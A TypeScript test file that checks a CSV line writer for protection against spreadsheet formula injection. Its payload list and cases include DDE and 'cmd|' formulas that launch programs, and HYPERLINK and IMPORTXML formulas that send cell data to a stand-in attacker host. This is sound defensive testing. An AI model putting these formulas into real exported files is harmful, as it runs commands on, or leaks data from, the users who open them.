import fc from 'fast-check';
import { expect, it } from 'vitest';

import { scaled } from '#testing/models/modelRuns.ts';

import { csvLine } from './csv.ts';

const starters = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'];
const payloads = [
  'cmd|"/c calc"!A0',
  'HYPERLINK("http://evil.example","x")',
  'SUM(1+1)*cmd|’ /C calc’!A0',
  '1+1',
  '2+5+cmd|"/C calc"!A0',
  'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '1',
  '',
  '"',
  ',',
  '\r\n=1',
  "'",
  'DDE("cmd","/C calc","x")',
  ' 1',
  '−1',
  '=1',
  '+1',
];

/** Parses one record with its line end, strictly per RFC 4180. */
function parseLine(line: string): string[] {
  expect(line.endsWith('\r\n')).toBe(true);
  const cells: string[] = [];
  let rest = line.slice(0, -2);
  for (;;) {
    const quoted = /^"((?:[^"]|"")*)"(?=,|$)/.exec(rest);
    const plain = /^[^",\r\n]*(?=,|$)/.exec(rest);
    const [whole, inner] = quoted ?? plain ?? ['', undefined];
    if (quoted === null && plain === null) throw new Error(`Not RFC 4180: ${JSON.stringify(rest)}`);
    cells.push(inner?.replaceAll('""', '"') ?? whole);
    if (whole.length === rest.length) return cells;
    rest = rest.slice(whole.length + 1);
  }
}

/** Phone numbers, and plain negative numbers. */
const harmless = /^(?:\+\d+|-\d+(?:\.\d+)?)$/;

const formulaStart = /^[=+\-@＝＋－＠]/;
const separators = [',', ';', '\t', '|'] as const;
const lineBreaks = /\r\n|[\r\n\v\f\u0085\u2028\u2029]/;

/** The cells of a line, without the guards. */
function unguardedLine(cells: readonly string[]): string[] {
  const end = /(?<=[,;|\t\n\v\f\r\u0085\u2028\u2029][\s\p{Cc}\p{Cf}"]*'*)'$/u;
  const last = cells.length - 1;
  return cells.map((cell, column) => unguarded(column === last ? cell.replace(end, '') : cell));
}

/** Removes one apostrophe wherever a cell may begin. */
function unguarded(cell: string): string {
  const inside =
    /(?<!')'(?='*[=+\-@＝＋－＠])(?<=(?:^|[,;|\t\n\v\f\r\u0085\u2028\u2029])[\s\p{Cc}\p{Cf}"]*')/gu;
  return cell.replace(/^'(?='*[\t\r\n\0])/, '').replace(inside, '');
}

/** The cells of a file as split by Excel: quotes count only at the start of a cell. */
function excelCells(file: string, separator: string): string[] {
  const cells: string[] = [];
  let at = 0;
  while (at < file.length) {
    let cell = '';
    if (file[at] === '"') {
      const quoted = /^"((?:[^"]|"")*)(?:"|$)/.exec(file.slice(at)) ?? ['', ''];
      cell = (quoted[1] ?? '').replaceAll('""', '"');
      at += quoted[0].length;
    }
    while (at < file.length && file[at] !== separator && !/[\r\n]/.test(file[at] ?? '')) {
      cell += file[at++];
    }
    at++;
    cells.push(cell);
  }
  return cells;
}

/** The cells of a file as split by a program that does not support quotes. */
function splitCells(file: string, separator: string): string[] {
  return file.split(lineBreaks).flatMap((line) => line.split(separator));
}

/**
 * Whether a spreadsheet could run a cell as a formula. A signed number is harmless. At the start of a line it
 * may continue with commas, more numbers and a quote, which is not a formula either.
 */
function runs(cell: string): boolean {
  const seen = cell.replace(/^[\s\p{Cc}\p{Cf}"]+/u, '');
  const number = /^[+-]\d+(?:\.\d+)?(?:,(?:[+-]?\d+(?:\.\d+)?)?)*(?:,".*)?"?$/s;
  return formulaStart.test(seen) && !number.test(seen);
}

/** The cells that would be evaluated as formulas, with any separator, and with or without support for quotes. */
function formulasIn(file: string): string[] {
  const read = separators.flatMap((separator) => [
    ...excelCells(file, separator),
    ...(separator === ',' ? [] : splitCells(file, separator)),
  ]);
  return read.filter(runs);
}

const cells = starters.flatMap((start) => payloads.map((payload) => start + payload));

it('H14: the lines are tested with about 200 formulas', () => {
  expect(cells.length).toBeGreaterThanOrEqual(200);
});

const shown = cells.map((cell) => [JSON.stringify(cell), cell] as const);
it.each(shown)('H14: a line guards %s, and can remove the guard again', (_, cell) => {
  const [read = ''] = parseLine(csvLine([cell, 'ACTIVE']));
  // A formula may also begin after a tab or a line end within the cell.
  const whole = cell.replace(/([\t\r\n\0])(?=[=+])/g, "$1'");
  expect(read).toBe(harmless.test(cell) ? cell : `'${whole}`);
  expect(unguarded(read)).toBe(cell);
  expect(formulasIn(csvLine(['ICCID', cell, 'ACTIVE']))).toEqual([]);
});

it.each(['89882280666000001234', '+4915112345678', '0', '0049151', 'Zähler 7', "O'Neill", 'a=b'])(
  'H14: a line leaves %s unchanged',
  (cell) => expect(parseLine(csvLine([cell]))).toEqual([cell]),
);

it.each(['-1.86274', '-33.8688', '-7', '-0.0'])(
  'H14: a line leaves %s, such as a western longitude, readable as a number',
  (cell) => expect(parseLine(csvLine([cell]))).toEqual([cell]),
);

it.each([...'-1. -.5 -1.5.2 -1,5 -1e5 -1-1 --1 +1.5 -1A1 -١'.split(' '), '- 1', '-1\n'])(
  'H14: a line guards %j, which only looks like a number at first',
  (cell) => expect(parseLine(csvLine([cell, 'x']))).toEqual([`'${cell}`, 'x']),
);

it('H14: a line quotes cells with a comma, a quote or a line end, and doubles quotes (RFC 4180)', () => {
  expect(csvLine(['a', 'b,c', 'd"e', 'f\ng', '', ' h'])).toBe('a,"b,c","d""e","f\ng",, h\r\n');
});

it('H14: a single empty cell is not an empty line', () => {
  expect(parseLine(csvLine(['']))).toEqual(['']);
});

it.each([
  ["x;=cmd|'/C calc'!A0", "x;'=cmd|'/C calc'!A0"],
  ['a\t+1', "a\t'+1"],
  ['a|@SUM(1)', "a|'@SUM(1)"],
  ['a, -1+1', "a, '-1+1"],
  ['a\r\n=1', "a\r\n'=1"],
  ['a\u2028=1', "a\u2028'=1"],
  ['a;  "=1"', 'a;  "\'=1"'],
  [' =1', " '=1"],
  ['\uFEFF=1', "\uFEFF'=1"],
  ['"=1"', '"\'=1"'],
  ["a;'=1", "a;''=1"],
])('H14: a line guards %j at every position where Excel may begin a cell', (cell, safe) => {
  const line = csvLine(['89882280666000001234', cell, '5+1']);
  expect(parseLine(line)).toEqual(['89882280666000001234', safe, '5+1']);
  expect(formulasIn(line)).toEqual([]);
  expect(unguarded(safe)).toBe(cell);
});

it.each(['a;b', 'north; south', 'a\tb', 'a|b', 'two\r\nlines', '{"place":[151.2,-33.8]}', 'x - y'])(
  'H14: a line leaves %j unchanged, because it contains no formula',
  (cell) => expect(parseLine(csvLine(['k', cell]))).toEqual(['k', cell]),
);

it('H14: a phone number at the start of a line does not form a formula with the cells after it', () => {
  // In locales with a decimal comma, +4915112345678,5+cmd|… would be a formula.
  const line = csvLine(['+4915112345678', "5+cmd|'/C calc'!A0", '7', '']);
  expect(line).toBe('+4915112345678,"5+cmd|\'/C calc\'!A0",7,\r\n');
  expect(formulasIn(line)).toEqual([]);
});

it('H14: a separator at the end of a line does not include the start of the next line', () => {
  // Without the guard, the first line's last quote would begin a cell in a program that splits on tabs.
  const file = csvLine(['1', 'a\t']) + csvLine(['+4915112345678', '5+1']);
  expect(file).toBe('1,"a\t\'"\r\n+4915112345678,"5+1"\r\n');
  expect(formulasIn(file)).toEqual([]);
  expect(unguardedLine(['1', "a\t'"])).toEqual(['1', 'a\t']);
});

it('H14: a cell with 200,000 tabs, quotes or apostrophes does not block the page', () => {
  // Quadratic time would exceed the time limit of the test.
  for (const part of ['\t', "'", ' ', '"', '; ']) {
    const long = `a${part.repeat(200_000)}x`;
    expect(parseLine(csvLine(['k', long]))).toEqual(['k', long]);
  }
});

it('H14: random lines can be read back unchanged, and contain no formula', () => {
  const others = ['"', "'", ' ', '\u00A0', '\uFEFF', 'a', '1', '0', '\u2028', '\r\n'];
  const hostile = fc.constantFrom(...starters, ...separators, ...others);
  const cell = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 12 }),
    fc.array(hostile, { maxLength: 8 }).map((parts) => parts.join('')),
  );
  const line = fc.array(cell, { minLength: 1, maxLength: 6 });
  fc.assert(
    fc.property(line, line, (given, next) => {
      const read = parseLine(csvLine(given));
      expect(unguardedLine(read)).toEqual(given);
      const starts = read.filter((text) => starters.some((start) => text.startsWith(start)));
      expect(starts.filter((text) => !harmless.test(text))).toEqual([]);
      // An unclosed quote may include the end of a line.
      expect(formulasIn(csvLine(given) + csvLine(next))).toEqual([]);
    }),
    { numRuns: scaled(3_000) },
  );
}, 600_000);
